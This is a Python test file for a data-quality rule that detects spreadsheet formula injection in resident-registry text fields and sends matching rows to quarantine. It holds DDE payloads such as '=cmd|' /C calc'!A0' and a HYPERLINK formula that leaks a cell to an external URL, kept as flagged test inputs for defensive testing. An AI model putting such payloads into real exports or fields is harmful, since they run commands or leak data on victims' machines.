"""formula_like_text: text a spreadsheet would run as a formula is quarantined, numbers and phones are not."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import great_expectations as gx
import pyarrow.compute as pc
import pytest
from great_expectations.expectations.registry import get_renderer_impl
from great_expectations.render import LegacyRendererType

import huiliu.quality.expectations  # noqa: F401  (registers huiliu's expectation types with GX)
from huiliu.contracts import load_contract, load_contracts
from huiliu.ingest import land_dataset
from huiliu.lake.catalog import lake_table
from huiliu.quality.gate import run_gate
from huiliu.quality.rules.formula import formula_like_text
from huiliu.quality.suites import FORMULA_RULE, load_checked_suite
from huiliu.settings import PROJECT_ROOT, Settings
from tests.helpers.residents import a_community, insert, person
from tests.helpers.source_tables import SourceDb
from tests.quality.suite_rows import gate_verdict, row_failures

DDE = "=cmd|' /C calc'!A0"
AS_OF = datetime(2026, 11, 1, tzinfo=UTC)

FLAGGED = [
    DDE,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?q="&A1,"详情")',
    "\t=1+1",
    "\r@SUM(A1:A9)",
    "-1+1",
    "- 市民反映路灯不亮",
]
INERT = [
    "-12.5",
    "-1,234.50",
    "-5%",
    "\t-12.5",
    "+86 138 0013 8000",
    "+86-138-0013-8000",
    "+8613800138000",
    "+86 (851) 8555 1234",
    "-",
    "------",
    "王伟",
    "南明区新华路12号",
    "a=1",
    "",
]


@pytest.mark.parametrize("text", FLAGGED, ids=repr)
def test_formula_text_is_flagged(text: str) -> None:
    assert formula_like_text([text]).tolist() == [True]


@pytest.mark.parametrize("text", INERT, ids=repr)
def test_numbers_phones_and_ordinary_text_are_not(text: str) -> None:
    assert formula_like_text([text]).tolist() == [False]


def test_nulls_and_numbers_are_never_formulas() -> None:
    assert formula_like_text([None, DDE]).tolist() == [False, True]
    assert formula_like_text([-12, 5]).tolist() == [False, False]


def test_data_docs_say_what_the_rule_checks() -> None:
    (expectation,) = gx.ExpectationSuite(
        name="s", expectations=[{"type": FORMULA_RULE, "kwargs": {"column": "name"}}]
    ).expectations
    (content,) = get_renderer_impl(FORMULA_RULE, LegacyRendererType.PRESCRIPTIVE)[1](
        configuration=expectation.configuration
    )
    template = content.to_json_dict()["string_template"]["template"]
    assert template.startswith("$column values must not be text a spreadsheet would run as a formula")


def test_a_dde_payload_in_a_name_or_address_quarantines_the_row(huiliu_home: Settings) -> None:
    community = a_community(huiliu_home)
    rows = [
        person(1, community),
        person(2, community, name=DDE),
        person(3, community, household_address="@SUM(1+1)*cmd|' /C calc'!A0"),
        person(4, community, household_address="-12.5", phone="+86 138 0013 8000"),
    ]
    verdict = gate_verdict("resident_registry", rows, AS_OF, huiliu_home)
    assert row_failures(verdict, 0) == {}
    assert row_failures(verdict, 1) == {f"{FORMULA_RULE}(name)": "warning"}
    assert row_failures(verdict, 2) == {f"{FORMULA_RULE}(household_address)": "warning"}
    assert row_failures(verdict, 3) == {}


def test_every_text_column_of_every_dataset_gets_the_rule() -> None:
    for contract in load_contracts().values():
        document = load_checked_suite(contract)
        checked = {
            e["kwargs"]["column"]: e["severity"] for e in document.expectations if e["type"] == FORMULA_RULE
        }
        text_columns = {c.name for c in contract.columns if c.type == "string"}
        assert checked == dict.fromkeys(text_columns, "warning"), contract.name


def test_a_suite_may_set_the_rule_for_a_column_itself(tmp_path: Path) -> None:
    body = json.loads((PROJECT_ROOT / "expectations" / "grid_events.json").read_text(encoding="utf-8"))
    own = {"type": FORMULA_RULE, "kwargs": {"column": "description", "mostly": 0.99}, "severity": "info"}
    body["expectations"].append(own)
    (tmp_path / "grid_events.json").write_text(json.dumps(body, ensure_ascii=False), encoding="utf-8")
    document = load_checked_suite(load_contract("grid_events"), Settings(expectations_dir=tmp_path))
    on_description = [
        e
        for e in document.expectations
        if e["type"] == FORMULA_RULE and e["kwargs"]["column"] == "description"
    ]
    assert on_description == [own]


def test_the_gate_quarantines_a_formula_and_curates_the_rest(source: SourceDb, huiliu_home: Settings) -> None:
    community = a_community(huiliu_home)
    hostile = person(7, community, name=DDE)
    insert(source, [person(i, community) for i in range(20) if i != 7] + [hostile])
    landed = land_dataset(load_contract("resident_registry"), "20261101T000000")

    result = run_gate(load_contract("resident_registry"), landed.batch_id, as_of=AS_OF)

    assert (result.status, result.rows_curated, result.rows_quarantined) == ("quarantined", 19, 1)
    quarantine = lake_table("quarantine.resident_registry", settings=huiliu_home).scan().to_arrow()
    held = quarantine.filter(pc.equal(quarantine["_batch_id"], landed.batch_id))
    assert held["id_number"].to_pylist() == [hostile["id_number"]]
    assert held["_failed_rules"].to_pylist() == [f"{FORMULA_RULE}(name)"]
